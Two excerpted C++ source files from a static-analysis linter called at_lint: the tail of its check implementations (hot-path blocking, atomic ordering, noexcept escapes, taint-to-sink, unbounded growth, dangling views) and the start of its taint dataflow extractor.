      while (j < body_close && toks[j].kind == TokKind::kIdent && scalar_type(toks[j].text)) {
        scalar = true;
        ++j;
      }
      bool pointer = false;
      if (!scalar) {
        // `Type* name;` — a handful of type tokens then one-or-more '*'.
        std::size_t steps = 0;
        std::size_t p = j;
        while (p < body_close && steps < 8 &&
               (toks[p].kind == TokKind::kIdent || tok::is_punct(toks, p, "::"))) {
          ++p;
          ++steps;
        }
        if (tok::is_punct(toks, p, "<")) {
          const std::size_t c = tok::skip_template_args(toks, p);
          if (c != tok::kNpos) p = c + 1;
        }
        if (p > j && tok::is_punct(toks, p, "*")) {
          pointer = true;
          j = p;
        }
      }
      if (!scalar && !pointer) continue;
      while (tok::is_punct(toks, j, "*")) {
        pointer = true;
        ++j;
      }
      if (j >= body_close || toks[j].kind != TokKind::kIdent) continue;
      const std::string field_name = toks[j].text;
      const std::string_view after =
          j + 1 < body_close ? std::string_view(toks[j + 1].text) : std::string_view(";");
      if (after == ";") {
        info.uninit_fields.push_back({field_name, toks[j].line});
      }
      // `= ...` / `{...}` initializers, functions `(`, bitfields `:`,
      // arrays `[` — all skipped (initialized, not a field, or out of
      // scope for this heuristic).
    }
  }
};

// ----------------------------------------------------- blocking-in-hot-path

class BlockingInHotPathCheck final : public Check {
 public:
  std::string_view name() const noexcept override { return "blocking-in-hot-path"; }
  std::string_view summary() const noexcept override {
    return "functions reachable from an AT_HOT function or a sim::Engine/shard drain "
           "loop must not sleep, do I/O, raw-allocate, or wait";
  }

  void project(const ProjectCtx& ctx, std::vector<Violation>& out) const override {
    if (ctx.graph == nullptr) return;
    const ProjectGraph& g = *ctx.graph;
    for (std::size_t f = 0; f < g.fns.size(); ++f) {
      if (g.hot[f] == 0) continue;
      const FileAnalysis& fa = ctx.files[g.fns[f].file];
      if (!starts_with(fa.path, "src/")) continue;
      for (const auto& site : g.fns[f].fn->blocking) {
        Violation v;
        v.rule = "blocking-in-hot-path";
        v.file = fa.path;
        v.line = site.line;
        v.message = "blocking " + site.category + " call '" + site.name +
                    "' on the hot path (" + g.hot_chain(f) +
                    "); move it off the drain loop, buffer it, or justify with "
                    "// at_lint: allow(blocking-in-hot-path)";
        v.excerpt = site.name;
        out.push_back(std::move(v));
      }
    }
    dedup(out);
  }
};

// ------------------------------------------------------------- atomic-order

class AtomicOrderCheck final : public Check {
 public:
  std::string_view name() const noexcept override { return "atomic-order"; }
  std::string_view summary() const noexcept override {
    return "relaxed loads must not feed a pointer dereference or guard reads of other "
           "members; atomics in hot-path functions must spell their order explicitly";
  }

  void project(const ProjectCtx& ctx, std::vector<Violation>& out) const override {
    if (ctx.graph == nullptr) return;
    const ProjectGraph& g = *ctx.graph;
    for (std::size_t f = 0; f < g.fns.size(); ++f) {
      const FileAnalysis& fa = ctx.files[g.fns[f].file];
      if (!starts_with(fa.path, "src/")) continue;
      for (const auto& op : g.fns[f].fn->atomics) {
        Violation v;
        v.rule = "atomic-order";
        v.file = fa.path;
        v.line = op.line;
        v.excerpt = op.object + "." + op.op;
        if (op.order == "relaxed" && op.op == "load" && (op.deref || op.guards_other)) {
          v.message =
              "relaxed load of '" + op.object +
              (op.deref ? "' feeds a pointer dereference"
                        : "' guards reads of other members") +
              "; the consumer needs memory_order_acquire (paired with a release "
              "store) or an inline justification";
          out.push_back(std::move(v));
        } else if (op.order.empty() && g.hot[f] != 0) {
          v.message = "atomic " + op.op + " on '" + op.object +
                      "' defaults to seq_cst inside a hot-path function (" +
                      g.hot_chain(f) +
                      "); spell the memory order explicitly so the cost is a "
                      "decision, not an accident";
          out.push_back(std::move(v));
        }
      }
    }
    dedup(out);
  }
};

// ---------------------------------------------------------- noexcept-escape

class NoexceptEscapeCheck final : public Check {
 public:
  std::string_view name() const noexcept override { return "noexcept-escape"; }
  std::string_view summary() const noexcept override {
    return "no throw reachable through the call graph from a noexcept function, a "
           "destructor, or a ThreadPool-submitted callable (std::terminate on throw)";
  }

  void project(const ProjectCtx& ctx, std::vector<Violation>& out) const override {
    if (ctx.graph == nullptr) return;
    const ProjectGraph& g = *ctx.graph;
    for (std::size_t f = 0; f < g.fns.size(); ++f) {
      const FileAnalysis& fa = ctx.files[g.fns[f].file];
      if (!starts_with(fa.path, "src/")) continue;
      const FileFacts::Function& fn = *g.fns[f].fn;
      if (!fn.is_noexcept && !fn.is_dtor && !fn.is_task) continue;
      if (g.can_throw[f] == 0) continue;
      const char* kind = fn.is_noexcept ? "noexcept"
                         : fn.is_dtor   ? "a destructor (implicitly noexcept)"
                                        : "a ThreadPool task (workers never rethrow)";
      const ProjectGraph::ThrowWitness& w = g.throw_witness[f];
      Violation v;
      v.rule = "noexcept-escape";
      v.file = fa.path;
      v.line = w.line;
      v.message = "'" + fn.name + "' is " + kind + " but can throw (" +
                  (w.via.empty() ? std::string("throw statement")
                                 : "calls '" + w.via + "' which can throw") +
                  " at line " + std::to_string(w.line) +
                  "); catch at this boundary or make the callee non-throwing";
      v.excerpt = fn.name;
      out.push_back(std::move(v));
    }
    dedup(out);
  }
};

// ------------------------------------------------------------ taint-to-sink

class TaintToSinkCheck final : public Check {
 public:
  std::string_view name() const noexcept override { return "taint-to-sink"; }
  std::string_view summary() const noexcept override {
    return "a value from an AT_UNTRUSTED source must not reach an allocation size, "
           "array index, file path, or format string without a bounds check or an "
           "AT_SANITIZES hop";
  }

  void project(const ProjectCtx& ctx, std::vector<Violation>& out) const override {
    if (ctx.graph == nullptr) return;
    const ProjectGraph& g = *ctx.graph;
    for (std::size_t f = 0; f < g.fns.size(); ++f) {
      const FileAnalysis& fa = ctx.files[g.fns[f].file];
      if (!starts_with(fa.path, "src/")) continue;
      const FileFacts::Function& fn = *g.fns[f].fn;
      for (std::size_t e = 0; e < fn.flows.size(); ++e) {
        const FileFacts::FlowEdge& flow = fn.flows[e];
        if (flow.kind != 's' || flow.sink == "growth") continue;
        if (flow.checked || g.flow_taint[f][e] == 0) continue;
        Violation v;
        v.rule = "taint-to-sink";
        v.file = fa.path;
        v.line = flow.line;
        const std::string origin =
            flow.from_param >= 0 &&
                    static_cast<std::size_t>(flow.from_param) < fn.params.size()
                ? "parameter '" + fn.params[flow.from_param] + "'"
                : "result of '" + flow.from_call + "'";
        v.message = "untrusted " + origin + " reaches " + flow.sink + " sink '" +
                    flow.detail + "' (taint path: " + g.taint_chain(f) +
                    "); bounds-check the value first or route it through an "
                    "AT_SANITIZES parser (util::parse_num)";
        v.excerpt = flow.detail;
        out.push_back(std::move(v));
      }
    }
    dedup(out);
  }
};

// --------------------------------------------------------- unbounded-growth

class UnboundedGrowthCheck final : public Check {
 public:
  std::string_view name() const noexcept override { return "unbounded-growth"; }
  std::string_view summary() const noexcept override {
    return "a member container keyed or grown by tainted data needs an eviction "
           "path in some TU or an AT_BOUNDED annotation at the declaration";
  }

  void project(const ProjectCtx& ctx, std::vector<Violation>& out) const override {
    if (ctx.graph == nullptr) return;
    const ProjectGraph& g = *ctx.graph;
    for (std::size_t f = 0; f < g.fns.size(); ++f) {
      const FileAnalysis& fa = ctx.files[g.fns[f].file];
      if (!starts_with(fa.path, "src/")) continue;
      const FileFacts::Function& fn = *g.fns[f].fn;
      for (std::size_t e = 0; e < fn.flows.size(); ++e) {
        const FileFacts::FlowEdge& flow = fn.flows[e];
        if (flow.kind != 's' || flow.sink != "growth") continue;
        if (flow.checked || g.flow_taint[f][e] == 0) continue;
        if (g.bounded_fields.contains(flow.detail)) continue;
        Violation v;
        v.rule = "unbounded-growth";
        v.file = fa.path;
        v.line = flow.line;
        v.message = "'" + flow.detail +
                    "' grows under attacker-controlled keys (taint path: " +
                    g.taint_chain(f) +
                    ") with no eviction or capacity guard in any TU; evict/"
                    "checkpoint it, cap it, or annotate the field AT_BOUNDED "
                    "with a comment naming the bound";
        v.excerpt = flow.detail;
        out.push_back(std::move(v));
      }
    }
    dedup(out);
  }
};

// ------------------------------------------------------------ dangling-view

class DanglingViewCheck final : public Check {
 public:
  std::string_view name() const noexcept override { return "dangling-view"; }
  std::string_view summary() const noexcept override {
    return "a string_view/span/reference must not borrow from a temporary or a "
           "local that dies first, nor outlive a mutation of the borrowed container";
  }

  void file(const FileCtx& ctx, std::vector<Violation>& out) const override {
    if (!starts_with(ctx.file.path, "src/") && !starts_with(ctx.file.path, "tools/")) {
      return;
    }
    const Tokens& toks = ctx.tokens.tokens;
    facts::DeclSets sets;
    facts::harvest_decls(&ctx.tokens, sets, nullptr);

    view_of_temporary(ctx, toks, sets, out);
    return_view_of_local(ctx, toks, out);
    borrow_then_mutate(ctx, toks, sets, out);
    dedup(out);
  }

 private:
  static bool view_type(std::string_view text) {
    return text == "string_view" || text == "span";
  }

  static bool mutating_container_method(std::string_view text) {
    return text == "push_back" || text == "emplace_back" || text == "insert" ||
           text == "emplace" || text == "try_emplace" || text == "erase" ||
           text == "resize" || text == "reserve" || text == "clear" ||
           text == "pop_back" || text == "pop_front" || text == "assign" ||
           text == "append" || text == "shrink_to_fit";
  }

  /// `string_view v = <expr>;` where the initializer materializes a
  /// std::string temporary: a ternary mixing a string with a literal (the
  /// PR-4 UB bug), a substr() result, a concatenation, or an explicit
  /// std::string(...) — the view dangles when the full-expression ends.
  void view_of_temporary(const FileCtx& ctx, const Tokens& toks,
                         const facts::DeclSets& sets,
                         std::vector<Violation>& out) const {
    for (std::size_t i = 0; i + 2 < toks.size(); ++i) {
      if (!tok::is_ident(toks, i, "string_view") || toks[i].in_pp) continue;
      std::size_t j = i + 1;
      if (j < toks.size() && toks[j].kind != TokKind::kIdent) continue;
      const std::size_t name_idx = j;
      if (!tok::is_punct(toks, name_idx + 1, "=")) continue;
      std::size_t end = name_idx + 2;
      int depth = 0;
      while (end < toks.size()) {
        if (tok::is_punct(toks, end, "(") || tok::is_punct(toks, end, "[") ||
            tok::is_punct(toks, end, "{")) {
          ++depth;
        }
        if (tok::is_punct(toks, end, ")") || tok::is_punct(toks, end, "]") ||
            tok::is_punct(toks, end, "}")) {
          --depth;
        }
        if (depth <= 0 && tok::is_punct(toks, end, ";")) break;
        ++end;
      }
      const std::size_t lo = name_idx + 2;
      bool ternary = false, literal = false, string_src = false, substr = false;
      bool concat = false, string_ctor = false;
      int d = 0;
      for (std::size_t k = lo; k < end; ++k) {
        const Token& t = toks[k];
        if (t.kind == TokKind::kPunct) {
          if (t.text == "(" || t.text == "[" || t.text == "{") ++d;
          if (t.text == ")" || t.text == "]" || t.text == "}") --d;
          if (d == 0 && t.text == "?") ternary = true;
          if (d == 0 && t.text == "+") concat = true;
          continue;
        }
        if (t.kind == TokKind::kString) literal = true;
        if (t.kind != TokKind::kIdent) continue;
        if (sets.strings.contains(t.text)) {
          string_src = true;
          if (tok::is_punct(toks, k + 1, ".") && tok::is_ident(toks, k + 2, "substr")) {
            substr = true;
          }
        }
        if (t.text == "string" && tok::is_punct(toks, k + 1, "(")) string_ctor = true;
      }
      const Token& anchor = toks[name_idx];
      if (ternary && literal && string_src) {
        out.push_back(make(
            "dangling-view", ctx.file, anchor,
            "string_view '" + anchor.text +
                "' binds a ternary that mixes a std::string with a literal; the "
                "mismatched arm materializes a std::string temporary that dies at "
                "the ';', leaving the view dangling — make both arms string_view"));
      } else if (substr) {
        out.push_back(make(
            "dangling-view", ctx.file, anchor,
            "string_view '" + anchor.text +
                "' binds a substr() result; substr returns a std::string temporary "
                "that dies at the ';' — use string_view::substr on a view instead"));
      } else if (concat && string_src) {
        out.push_back(make(
            "dangling-view", ctx.file, anchor,
            "string_view '" + anchor.text +
                "' binds a string concatenation; the '+' materializes a temporary "
                "that dies at the ';' — build a named std::string first"));
      } else if (string_ctor) {
        out.push_back(make(
            "dangling-view", ctx.file, anchor,
            "string_view '" + anchor.text +
                "' binds an explicit std::string(...) temporary that dies at the "
                "';' — name the string or keep it a view end to end"));
      }
      i = end;
    }
  }

  /// A function returning string_view/span must not return a std::string
  /// local or by-value string parameter: the buffer dies with the frame.
  void return_view_of_local(const FileCtx& ctx, const Tokens& toks,
                            std::vector<Violation>& out) const {
    for (std::size_t i = 0; i + 3 < toks.size(); ++i) {
      if (toks[i].kind != TokKind::kIdent || !view_type(toks[i].text) || toks[i].in_pp) {
        continue;
      }
      // `string_view` [<...>] name[::name...] ( params ) ... {
      std::size_t j = i + 1;
      if (tok::is_punct(toks, j, "<")) {
        const std::size_t c = tok::skip_template_args(toks, j);
        if (c == tok::kNpos) continue;
        j = c + 1;
      }
      if (j >= toks.size() || toks[j].kind != TokKind::kIdent) continue;
      while (j + 2 < toks.size() && tok::is_punct(toks, j + 1, "::") &&
             toks[j + 2].kind == TokKind::kIdent) {
        j += 2;
      }
      if (!tok::is_punct(toks, j + 1, "(")) continue;
      const std::size_t params_close = tok::match_forward(toks, j + 1, "(", ")");
      if (params_close == tok::kNpos) continue;
      // Walk the trailer to a body (function) or terminator (variable/decl).
      std::size_t k = params_close + 1;
      std::size_t body_open = tok::kNpos;
      for (int steps = 0; steps < 16 && k < toks.size(); ++steps, ++k) {
        if (tok::is_punct(toks, k, "{")) {
          body_open = k;
          break;
        }
        if (tok::is_punct(toks, k, ";") || tok::is_punct(toks, k, "=")) break;
        if (tok::is_punct(toks, k, "(")) {
          const std::size_t c = tok::match_forward(toks, k, "(", ")");
          if (c == tok::kNpos) break;
          k = c;
        }
      }
      if (body_open == tok::kNpos) continue;
      const std::size_t body_close = tok::match_forward(toks, body_open, "{", "}");
      if (body_close == tok::kNpos) continue;

      // Frame-local string buffers: by-value std::string params + locals.
      std::unordered_set<std::string> locals;
      for (std::size_t m = j + 2; m < params_close; ++m) {
        if (!tok::is_ident(toks, m, "string")) continue;
        bool byval = true;
        std::size_t v = m + 1;
        while (v < params_close &&
               (tok::is_punct(toks, v, "&") || tok::is_punct(toks, v, "*"))) {
          byval = false;
          ++v;
        }
        if (byval && v < params_close && toks[v].kind == TokKind::kIdent) {
          locals.insert(toks[v].text);
        }
      }
      for (std::size_t m = body_open + 1; m < body_close; ++m) {
        if (!tok::is_ident(toks, m, "string")) continue;
        if (m + 1 < body_close && toks[m + 1].kind == TokKind::kIdent &&
            (tok::is_punct(toks, m + 2, "=") || tok::is_punct(toks, m + 2, ";") ||
             tok::is_punct(toks, m + 2, "(") || tok::is_punct(toks, m + 2, "{"))) {
          locals.insert(toks[m + 1].text);
        }
      }
      if (locals.empty()) {
        i = body_close;
        continue;
      }
      for (std::size_t m = body_open + 1; m < body_close; ++m) {
        if (!tok::is_ident(toks, m, "return")) continue;
        if (m + 1 < body_close && toks[m + 1].kind == TokKind::kIdent &&
            locals.contains(toks[m + 1].text) && tok::is_punct(toks, m + 2, ";")) {
          out.push_back(make(
              "dangling-view", ctx.file, toks[m + 1],
              "returning std::string '" + toks[m + 1].text +
                  "' from a view-returning function; the buffer dies with the "
                  "frame and the returned view dangles — return std::string, or "
                  "view storage that outlives the call"));
        }
      }
      i = body_close;
    }
  }

  /// A reference/pointer/iterator borrowed from a locally-declared
  /// container, used again after the container is mutated (reallocation /
  /// rehash invalidates the borrow). Reassigning the borrow re-arms it.
  void borrow_then_mutate(const FileCtx& ctx, const Tokens& toks,
                          const facts::DeclSets& sets,
                          std::vector<Violation>& out) const {
    const auto local_container = [&](const std::string& name) {
      return sets.sequences.contains(name) || sets.strings.contains(name) ||
             sets.unordered.contains(name) || sets.ordered.contains(name);
    };
    for (std::size_t i = 0; i + 4 < toks.size(); ++i) {
      if (toks[i].in_pp) continue;
      // Borrow shapes: `auto& r = X.back()/front()/[i]`, `auto it =
      // X.begin()`, `T* p = X.data()`.
      std::string borrow, container;
      std::size_t stmt_end = tok::kNpos;
      if (tok::is_ident(toks, i, "auto")) {
        std::size_t j = i + 1;
        bool is_ref = false;
        while (tok::is_punct(toks, j, "&") || tok::is_ident(toks, j, "const") ||
               tok::is_punct(toks, j, "*")) {
          if (toks[j].kind == TokKind::kPunct) is_ref = true;
          ++j;
        }
        if (j >= toks.size() || toks[j].kind != TokKind::kIdent ||
            !tok::is_punct(toks, j + 1, "=")) {
          continue;
        }
        const std::size_t rhs = j + 2;
        if (rhs >= toks.size() || toks[rhs].kind != TokKind::kIdent ||
            !local_container(toks[rhs].text)) {
          continue;
        }
        const bool elem_ref =
            is_ref && tok::is_punct(toks, rhs + 1, ".") &&
            (tok::is_ident(toks, rhs + 2, "back") || tok::is_ident(toks, rhs + 2, "front"));
        const bool elem_idx = is_ref && tok::is_punct(toks, rhs + 1, "[");
        const bool iter =
            !is_ref && tok::is_punct(toks, rhs + 1, ".") &&
            (tok::is_ident(toks, rhs + 2, "begin") || tok::is_ident(toks, rhs + 2, "end") ||
             tok::is_ident(toks, rhs + 2, "cbegin") || tok::is_ident(toks, rhs + 2, "cend"));
        const bool dataptr = tok::is_punct(toks, rhs + 1, ".") &&
                             tok::is_ident(toks, rhs + 2, "data");
        if (!elem_ref && !elem_idx && !iter && !dataptr) continue;
        borrow = toks[j].text;
        container = toks[rhs].text;
        stmt_end = rhs;
      } else if (tok::is_punct(toks, i, "*") && i + 1 < toks.size() &&
                 toks[i + 1].kind == TokKind::kIdent &&
                 tok::is_punct(toks, i + 2, "=") && i + 3 < toks.size() &&
                 toks[i + 3].kind == TokKind::kIdent &&
                 local_container(toks[i + 3].text) && tok::is_punct(toks, i + 4, ".") &&
                 tok::is_ident(toks, i + 5, "data")) {
        borrow = toks[i + 1].text;
        container = toks[i + 3].text;
        stmt_end = i + 3;
      } else {
        continue;
      }
      while (stmt_end < toks.size() && !tok::is_punct(toks, stmt_end, ";")) ++stmt_end;

      // Scan forward in the enclosing scope: mutation of `container` arms
      // the trap, a later use of `borrow` springs it, reassignment of
      // `borrow` (erase-loop idiom `it = c.erase(it)`) disarms it.
      int depth = 0;
      std::uint32_t mutated_line = 0;
      std::string mutator;
      const std::size_t horizon = std::min(toks.size(), stmt_end + 700);
      for (std::size_t k = stmt_end + 1; k < horizon; ++k) {
        if (tok::is_punct(toks, k, "{")) ++depth;
        if (tok::is_punct(toks, k, "}") && --depth < 0) break;
        if (toks[k].kind != TokKind::kIdent) continue;
        if (toks[k].text == borrow) {
          if (tok::is_punct(toks, k + 1, "=")) break;  // re-borrowed
          if (mutated_line != 0) {
            out.push_back(make(
                "dangling-view", ctx.file, toks[k],
                "'" + borrow + "' borrows from '" + container + "' but '" +
                    container + "." + mutator + "' on line " +
                    std::to_string(mutated_line) +
                    " may reallocate or rehash, invalidating it — re-borrow "
                    "after mutating, or restructure"));
            break;
          }
          continue;
        }
        if (toks[k].text == container && tok::is_punct(toks, k + 1, ".") &&
            k + 2 < toks.size() && toks[k + 2].kind == TokKind::kIdent &&
            mutating_container_method(toks[k + 2].text) &&
            tok::is_punct(toks, k + 3, "(")) {
          const std::size_t close = tok::match_forward(toks, k + 3, "(", ")");
          if (close == tok::kNpos) break;
          if (mutated_line == 0) {
            mutated_line = toks[k].line;
            mutator = toks[k + 2].text;
          }
          k = close;  // args at the mutation site are not a use-after
        }
      }
    }
  }
};

}  // namespace

const std::vector<const Check*>& registry() {
  static const BannedCallCheck banned;
  static const PragmaOnceCheck pragma_once;
  static const IncludeCycleCheck include_cycle;
  static const RawNewDeleteCheck raw_new_delete;
  static const GuardedByCheck guarded_by;
  static const DeterminismCheck determinism;
  static const LockOrderCheck lock_order;
  static const HeaderHygieneCheck header_hygiene;
  static const UninitMemberCheck uninit_member;
  static const BlockingInHotPathCheck blocking_in_hot_path;
  static const AtomicOrderCheck atomic_order;
  static const NoexceptEscapeCheck noexcept_escape;
  static const TaintToSinkCheck taint_to_sink;
  static const DanglingViewCheck dangling_view;
  static const UnboundedGrowthCheck unbounded_growth;
  static const std::vector<const Check*> checks = {
      &banned,        &pragma_once,          &include_cycle, &raw_new_delete,
      &guarded_by,    &determinism,          &lock_order,    &header_hygiene,
      &uninit_member, &blocking_in_hot_path, &atomic_order,  &noexcept_escape,
      &taint_to_sink, &dangling_view,        &unbounded_growth};
  return checks;
}

}  // namespace at::lint
