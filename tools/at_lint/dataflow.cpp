// Phase-1 dataflow summary extraction (see facts.hpp::extract_flows). One
// function body at a time: build a local variable → origin map (origins are
// parameter indices and call-result names), then emit FlowEdges for callee
// argument passes, returns, and sinks. Everything stays name-based and
// intraprocedural here — phase 2 (link.cpp) decides which origins are
// tainted by propagating AT_UNTRUSTED seeds through these summaries over
// the resolved call graph.
//
// The extractor is deliberately conservative in the false-negative
// direction: an expression it cannot parse contributes no origins, an
// unknown subscript base is not a sink, and a comparison anywhere against
// a carrying variable marks later flows as bounds-checked.

#include <algorithm>
#include <cctype>
#include <cstdint>
#include <set>
#include <string>
#include <unordered_map>
#include <unordered_set>

#include "at_lint/facts.hpp"
#include "at_lint/token_util.hpp"

namespace at::lint::facts {

namespace {

using Tokens = std::vector<Token>;

/// Per-edge cap: keeps pathological bodies (generated tables, huge switch
/// statements) from bloating the cache; truncation loses recall, never
/// precision.
constexpr std::size_t kMaxFlows = 160;
constexpr std::size_t kMaxCallOrigins = 8;  ///< per-variable call-origin cap

/// Value-preserving wrappers: taint flows *through* them, so the scanner
/// descends into their arguments instead of treating the call result as an
/// opaque origin.
bool transparent_call(std::string_view name) {
  static const std::unordered_set<std::string_view> kSet = {
      "move",       "forward",          "static_cast", "const_cast",
      "dynamic_cast", "reinterpret_cast", "string",      "string_view",
      "to_string"};
  return kSet.contains(name);
}

/// Mirror of the call-site filter in facts.cpp: names that never resolve
/// to a project function get no arg-pass edges.
bool flow_callee(std::string_view text) {
  static const std::unordered_set<std::string_view> kNever = {
      "if",        "for",       "while",     "switch",   "catch",   "return",
      "sizeof",    "alignof",   "decltype",  "typeid",   "noexcept", "assert",
      "push_back", "emplace_back", "emplace", "pop_back", "front",   "back",
      "begin",     "end",       "cbegin",    "cend",     "size",    "empty",
      "find",      "count",     "at",        "clear",    "insert",  "erase",
      "reserve",   "resize",    "contains",  "swap",     "push",    "pop",
      "top",       "c_str",     "data",      "str",      "substr",  "append",
      "get",       "reset",     "release",   "value",    "has_value",
      "value_or",  "min",       "max",       "abs",      "move",    "forward",
      "make_unique", "make_shared", "to_string", "string"};
  if (kNever.contains(text)) return false;
  for (const char c : text) {
    if (std::islower(static_cast<unsigned char>(c)) != 0) return true;
  }
  return false;  // ALL_CAPS macro
}

/// Format-string argument position per formatter, or -1 when `name` is not
/// a formatting call. Only a tainted *format string* is the vulnerability;
/// tainted data arguments are the normal case.
int format_string_arg(std::string_view name) {
  if (name == "printf" || name == "format" || name == "vformat") return 0;
  if (name == "fprintf" || name == "dprintf" || name == "sprintf" ||
      name == "format_to") {
    return 1;
  }
  if (name == "snprintf" || name == "vsnprintf") return 2;
  return -1;
}

/// Origin set a local variable carries: which parameters and which call
/// results feed it (transitively through assignments).
struct Origin {
  std::uint32_t params = 0;
  std::set<std::string> calls;

  [[nodiscard]] bool empty() const { return params == 0 && calls.empty(); }
  /// Merge `other` in; returns true when anything new arrived.
  bool merge(const Origin& other) {
    bool changed = (other.params & ~params) != 0;
    params |= other.params;
    for (const auto& c : other.calls) {
      if (calls.size() >= kMaxCallOrigins) break;
      changed = calls.insert(c).second || changed;
    }
    return changed;
  }
};

struct FlowScanner {
  const Tokens& toks;
  std::size_t body_open, body_close;
  const DeclSets& sets;
  FileFacts::Function& fn;

  std::unordered_map<std::string, Origin> vars;
  /// First line where a comparison guards the variable; flows at or after
  /// this line count as bounds-checked.
  std::unordered_map<std::string, std::uint32_t> checked_line;
  std::set<std::string> emitted;  ///< dedup keys for edges

  // ---- expression scanning -------------------------------------------

  /// Union of origins carried by tracked variables and opaque call results
  /// in [lo, hi). `checked` reports whether any contributing variable was
  /// bounds-checked at or before `use_line`.
  Origin scan_expr(std::size_t lo, std::size_t hi, std::uint32_t use_line,
                   bool& checked) {
    Origin out;
    for (std::size_t k = lo; k < hi && k < toks.size(); ++k) {
      const Token& t = toks[k];
      if (t.kind != TokKind::kIdent || t.in_pp) continue;
      const bool method = k > 0 && (tok::is_punct(toks, k - 1, ".") ||
                                    tok::is_punct(toks, k - 1, "->"));
      // Call: `name(` or `name<...>(`.
      std::size_t open = tok::kNpos;
      if (tok::is_punct(toks, k + 1, "(")) {
        open = k + 1;
      } else if (tok::is_punct(toks, k + 1, "<")) {
        const std::size_t c = tok::skip_template_args(toks, k + 1);
        if (c != tok::kNpos && tok::is_punct(toks, c + 1, "(")) open = c + 1;
      }
      if (open != tok::kNpos) {
        if (transparent_call(t.text)) {
          k = open;  // descend: taint flows through the wrapper's arguments
          continue;
        }
        const std::size_t close = tok::match_forward(toks, open, "(", ")");
        if (close == tok::kNpos || close >= hi) return out;
        if (!method && flow_callee(t.text)) {
          if (out.calls.size() < kMaxCallOrigins) out.calls.insert(t.text);
        }
        // Method results inherit the receiver's origins (`text.substr(..)`),
        // already merged when the receiver identifier was scanned; the
        // arguments of an opaque call are not this value's origin.
        k = close;
        continue;
      }
      const auto it = vars.find(t.text);
      if (it != vars.end()) {
        out.merge(it->second);
        const auto ck = checked_line.find(t.text);
        if (ck != checked_line.end() && ck->second <= use_line) checked = true;
      }
    }
    return out;
  }

  // ---- bounds-check harvesting ---------------------------------------

  /// A tracked variable appearing in an if/while/for condition containing
  /// a comparison operator counts as bounds-checked from that line on.
  /// The whole for(...) header is scanned as one condition — its init and
  /// increment idents get marked too, which only errs toward fewer
  /// findings (`for (i = 0; i < n; ++i) buf[i]` is the canonical bounded
  /// loop this must not flag).
  void harvest_checks() {
    for (std::size_t k = body_open + 1; k < body_close; ++k) {
      if (toks[k].in_pp) continue;
      if (!tok::is_ident(toks, k, "if") && !tok::is_ident(toks, k, "while") &&
          !tok::is_ident(toks, k, "for")) {
        continue;
      }
      std::size_t open = k + 1;
      if (tok::is_ident(toks, open, "constexpr")) ++open;
      if (!tok::is_punct(toks, open, "(")) continue;
      const std::size_t close = tok::match_forward(toks, open, "(", ")");
      if (close == tok::kNpos || close > body_close) continue;
      bool has_cmp = false;
      for (std::size_t m = open + 1; m < close; ++m) {
        if (toks[m].kind != TokKind::kPunct) continue;
        const std::string_view p = toks[m].text;
        if (p == "<" || p == "<=" || p == ">" || p == ">=" || p == "==" || p == "!=") {
          has_cmp = true;
          break;
        }
      }
      if (!has_cmp) continue;
      const std::uint32_t line = toks[k].line;
      for (std::size_t m = open + 1; m < close; ++m) {
        if (toks[m].kind != TokKind::kIdent) continue;
        const auto it = checked_line.find(toks[m].text);
        if (it == checked_line.end()) {
          checked_line.emplace(toks[m].text, line);
        } else if (line < it->second) {
          it->second = line;
        }
      }
      k = close;
    }
  }

  // ---- assignment fixpoint -------------------------------------------

  /// One pass over the body merging RHS origins into assigned variables
  /// and range-for loop variables. Returns true when any origin grew.
  bool propagate_assignments() {
    bool changed = false;
    for (std::size_t k = body_open + 1; k < body_close; ++k) {
      const Token& t = toks[k];
      if (t.in_pp) continue;
      // Range-for: `for (decl : expr)` — the loop variable inherits the
      // range expression's origins (elements of a tainted batch are
      // tainted).
      if (t.kind == TokKind::kIdent && t.text == "for" &&
          tok::is_punct(toks, k + 1, "(")) {
        const std::size_t close = tok::match_forward(toks, k + 1, "(", ")");
        if (close == tok::kNpos || close > body_close) continue;
        std::size_t colon = tok::kNpos;
        int depth = 0;
        for (std::size_t m = k + 2; m < close; ++m) {
          if (tok::is_punct(toks, m, "(") || tok::is_punct(toks, m, "[")) ++depth;
          if (tok::is_punct(toks, m, ")") || tok::is_punct(toks, m, "]")) --depth;
          if (depth == 0 && tok::is_punct(toks, m, ":")) {
            colon = m;
            break;
          }
        }
        if (colon == tok::kNpos) continue;
        std::string var;
        for (std::size_t m = k + 2; m < colon; ++m) {
          if (toks[m].kind == TokKind::kIdent) var = toks[m].text;
        }
        if (var.empty()) continue;
        bool ignored = false;
        const Origin rhs = scan_expr(colon + 1, close, toks[k].line, ignored);
        if (!rhs.empty() && vars[var].merge(rhs)) changed = true;
        continue;
      }
      // Assignment: `ident = expr` / `ident += expr` (not a member access,
      // and `==`/`<=`/... are single greedy tokens so they never match).
      if (t.kind != TokKind::kIdent) continue;
      if (k > 0 && (tok::is_punct(toks, k - 1, ".") || tok::is_punct(toks, k - 1, "->"))) {
        continue;
      }
      if (!tok::is_punct(toks, k + 1, "=") && !tok::is_punct(toks, k + 1, "+=")) continue;
      std::size_t end = k + 2;
      int depth = 0;
      while (end < body_close) {
        if (tok::is_punct(toks, end, "(") || tok::is_punct(toks, end, "[") ||
            tok::is_punct(toks, end, "{")) {
          ++depth;
        }
        if (tok::is_punct(toks, end, ")") || tok::is_punct(toks, end, "]") ||
            tok::is_punct(toks, end, "}")) {
          --depth;
        }
        if (depth <= 0 && (tok::is_punct(toks, end, ";") || depth < 0)) break;
        ++end;
      }
      bool ignored = false;
      const Origin rhs = scan_expr(k + 2, end, t.line, ignored);
      if (!rhs.empty() && vars[t.text].merge(rhs)) changed = true;
      k = end;
    }
    return changed;
  }

  // ---- edge emission --------------------------------------------------

  void emit(const Origin& origin, bool checked, FileFacts::FlowEdge proto) {
    if (origin.empty()) return;
    proto.checked = checked;
    for (std::uint32_t p = 0; p < 32; ++p) {
      if ((origin.params & (1u << p)) == 0) continue;
      FileFacts::FlowEdge e = proto;
      e.from_param = static_cast<int>(p);
      push(std::move(e));
    }
    for (const auto& c : origin.calls) {
      FileFacts::FlowEdge e = proto;
      e.from_call = c;
      push(std::move(e));
    }
  }

  void push(FileFacts::FlowEdge e) {
    if (fn.flows.size() >= kMaxFlows) return;
    std::string key;
    key += std::to_string(e.from_param);
    key += '/';
    key += e.from_call;
    key += '/';
    key += e.kind;
    key += '/';
    key += e.to_call;
    key += '/';
    key += std::to_string(e.to_arg);
    key += '/';
    key += e.sink;
    key += '/';
    key += e.detail;
    key += '/';
    key += e.checked ? '1' : '0';
    if (!emitted.insert(key).second) return;
    fn.flows.push_back(std::move(e));
  }

  /// Split `[open+1, close)` on top-level commas and hand each argument
